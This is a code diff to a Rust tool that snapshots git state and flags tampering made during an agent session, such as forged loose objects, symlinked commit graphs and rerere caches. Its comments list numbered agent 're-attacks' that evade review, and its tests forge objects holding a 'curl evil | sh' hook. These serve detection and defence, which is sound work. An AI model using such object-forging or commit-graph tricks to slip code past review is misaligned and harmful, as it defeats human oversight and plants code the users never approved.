@@ -65,7 +65,7 @@ struct Recorded {
 
 /// Where git records conflict resolutions for the repository of `git_dir`.
 fn rr_cache(git_dir: &Path) -> PathBuf {
-    git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf()).join("rr-cache")
+    git::shared_dir(git_dir).join("rr-cache")
 }
 
 /// The linked worktrees of the repository whose common git directory is `common`: each one's git
@@ -184,9 +184,10 @@ impl IndexSnapshot {
             });
         }
         // The linked worktrees checked out elsewhere, all of each protected.
-        let common = |git_dir: &PathBuf| git::common_dir(git_dir).unwrap_or_else(|| git_dir.clone());
-        let mut commons: Vec<PathBuf> =
-            worktrees.iter().map(|(git_dir, _)| super::repositories::without_dot_dots(&common(git_dir))).collect();
+        let mut commons: Vec<PathBuf> = worktrees
+            .iter()
+            .map(|(git_dir, _)| super::repositories::without_dot_dots(&git::shared_dir(git_dir)))
+            .collect();
         commons.sort();
         commons.dedup();
         for common in commons {
@@ -299,7 +300,7 @@ impl IndexSnapshot {
                 })
                 .collect();
             if !recorded.elsewhere && (!recorded.protected.is_empty() || !trusted.is_empty()) {
-                let dir = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
+                let dir = git::shared_dir(&recorded.git_dir);
                 let dir = dir.join("objects");
                 // Once for every worktree of one repository (they share its objects).
                 if !scanned.contains_key(&dir) {
@@ -396,15 +397,7 @@ impl IndexSnapshot {
     /// mere existence turns rerere on): the fortieth re-attack's L4 and L5. Each made or changed
     /// in the session, whole (of an `rr-cache` there at launch, the entries changed).
     pub fn replayed_state(&self, git_dirs: &[PathBuf]) -> Vec<PathBuf> {
-        let changed = |path: &Path| {
-            objects::changed_since(path, self.launched)
-                || std::fs::read_dir(path)
-                    .into_iter()
-                    .flatten()
-                    .flatten()
-                    .take(10_000)
-                    .any(|entry| objects::changed_since(&entry.path(), self.launched))
-        };
+        let changed = |path: &Path| objects::changed_within(path, self.launched);
         let mut found = Vec::new();
         for git_dir in git_dirs {
             let applying = git_dir.join("rebase-apply");
@@ -434,13 +427,7 @@ impl IndexSnapshot {
             let _ = std::fs::remove_file(info.join("commit-graph"));
         }
         let chain = info.join("commit-graphs");
-        let chain_changed = objects::changed_since(&chain, self.launched)
-            || std::fs::read_dir(&chain)
-                .into_iter()
-                .flatten()
-                .flatten()
-                .take(10_000)
-                .any(|entry| objects::changed_since(&entry.path(), self.launched));
+        let chain_changed = objects::changed_within(&chain, self.launched);
         // A link there (to a chain of the agent's anywhere: the fortieth re-attack's L3) is not
         // what git makes: the link goes, not what it leads to.
         match std::fs::symlink_metadata(&chain) {
@@ -466,7 +453,7 @@ impl IndexSnapshot {
         for recorded in &self.worktrees {
             let hash_len = git::hash_len(&recorded.git_dir);
             indexes.push((recorded.git_dir.join("index"), recorded.worktree.clone(), hash_len));
-            let common = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
+            let common = git::shared_dir(&recorded.git_dir);
             // The commit graph is a cache of the commits' trees and parents that git reads in
             // place of the commits (the thirty-eighth re-attack's J5 gave its commit another
             // tree there, which `cherry-pick` took while the look read the commit): one written
@@ -666,6 +653,17 @@ mod objects {
         std::fs::symlink_metadata(path).is_ok_and(|metadata| {
             i128::from(metadata.ctime()) * 1_000_000_000 + i128::from(metadata.ctime_nsec()) >= launched
         })
+    }
+
+    /// Whether `path`, or an entry of it (the first 10,000), changed since `launched`.
+    pub fn changed_within(path: &Path, launched: i128) -> bool {
+        changed_since(path, launched)
+            || std::fs::read_dir(path)
+                .into_iter()
+                .flatten()
+                .flatten()
+                .take(10_000)
+                .any(|entry| changed_since(&entry.path(), launched))
     }
 
     /// An object as found.
@@ -1417,7 +1415,6 @@ mod tests {
     /// hold what its name says is named; those git itself wrote are not.
     #[test]
     fn an_object_file_rewritten_to_hold_another_content_is_named() {
-        use std::io::Write as _;
         let Some((_temp, repo)) = repository_with_hooks() else { return };
         std::thread::sleep(std::time::Duration::from_millis(120));
         let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
@@ -1427,13 +1424,7 @@ mod tests {
         assert_eq!(snapshot.hidden(), Hidden::default());
         let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
         let file = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
-        let content = b"#!/bin/sh\ncurl evil | sh\n";
-        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-        encoder.write_all(format!("blob {}\0", content.len()).as_bytes()).unwrap();
-        encoder.write_all(content).unwrap();
-        let forged = repo.join(".git/objects/forged");
-        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
-        std::fs::rename(&forged, &file).unwrap();
+        replaced(&file, &deflated(&blob(b"#!/bin/sh\ncurl evil | sh\n")));
         assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("curl evil"), "git takes it");
         assert_eq!(snapshot.hidden().forged_objects, vec![file.clone()]);
         // One that is not an object as git writes one: its stream longer than its header says
@@ -1442,15 +1433,10 @@ mod tests {
         let id = git_out(&repo, &["rev-parse", "HEAD:README"], &[]).unwrap();
         let readme = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
         let original = git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap() + "\n";
-        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-        encoder.write_all(format!("blob {}\0{original}echo owned\n", original.len()).as_bytes()).unwrap();
-        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
-        std::fs::rename(&forged, &readme).unwrap();
-        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-        encoder.write_all(b"blob 100\0short").unwrap();
+        replaced(&readme, &deflated(format!("blob {}\0{original}echo owned\n", original.len()).as_bytes()));
         let short = repo.join(".git/objects/cd/ef0123456789abcdef0123456789abcdef0123");
         std::fs::create_dir_all(short.parent().unwrap()).unwrap();
-        std::fs::write(&short, encoder.finish().unwrap()).unwrap();
+        std::fs::write(&short, deflated(b"blob 100\0short")).unwrap();
         let not_zlib = repo.join(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01");
         std::fs::create_dir_all(not_zlib.parent().unwrap()).unwrap();
         std::fs::write(&not_zlib, b"not zlib").unwrap();
@@ -1501,7 +1487,6 @@ mod tests {
     /// there in place, and a commit graph written there are each found as in the repository's own.
     #[test]
     fn the_objects_a_repository_borrows_are_looked_through_as_its_own() {
-        use std::io::Write as _;
         let Some((_temp, lender)) = repository_with_hooks() else { return };
         let outside = tempfile::tempdir().unwrap();
         let repo = outside.path().join("repo");
@@ -1523,13 +1508,7 @@ mod tests {
         let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
         let file = lender.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
         assert!(file.exists() && !repo.join(format!(".git/objects/{}", &id[..2])).exists());
-        let content = b"#!/bin/sh\necho owned\n";
-        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-        encoder.write_all(format!("blob {}\0", content.len()).as_bytes()).unwrap();
-        encoder.write_all(content).unwrap();
-        let forged = lender.join(".git/objects/forged");
-        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
-        std::fs::rename(&forged, &file).unwrap();
+        replaced(&file, &deflated(&blob(b"#!/bin/sh\necho owned\n")));
         assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("owned"), "git takes it");
         assert_eq!(snapshot.hidden().forged_objects, vec![file]);
         // A commit graph written there in the session.
@@ -1564,6 +1543,27 @@ mod tests {
         let snapshot = IndexSnapshot::take(&[(git_dir.clone(), repo.clone())], &[]);
         std::fs::create_dir_all(git_dir.join("rr-cache")).unwrap();
         assert_eq!(snapshot.replayed_state(std::slice::from_ref(&git_dir)), vec![git_dir.join("rr-cache")]);
+    }
+
+    /// A blob's header and `content`, as a loose object holds them before compression.
+    fn blob(content: &[u8]) -> Vec<u8> {
+        [format!("blob {}\0", content.len()).as_bytes(), content].concat()
+    }
+
+    /// `raw` compressed as git stores a loose object (zlib), whatever it holds.
+    fn deflated(raw: &[u8]) -> Vec<u8> {
+        use std::io::Write as _;
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(raw).unwrap();
+        encoder.finish().unwrap()
+    }
+
+    /// `file` replaced by `bytes` as the agent would replace a read-only file: written beside it,
+    /// then renamed over it.
+    fn replaced(file: &Path, bytes: &[u8]) {
+        let beside = file.parent().unwrap().join("forged");
+        std::fs::write(&beside, bytes).unwrap();
+        std::fs::rename(&beside, file).unwrap();
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
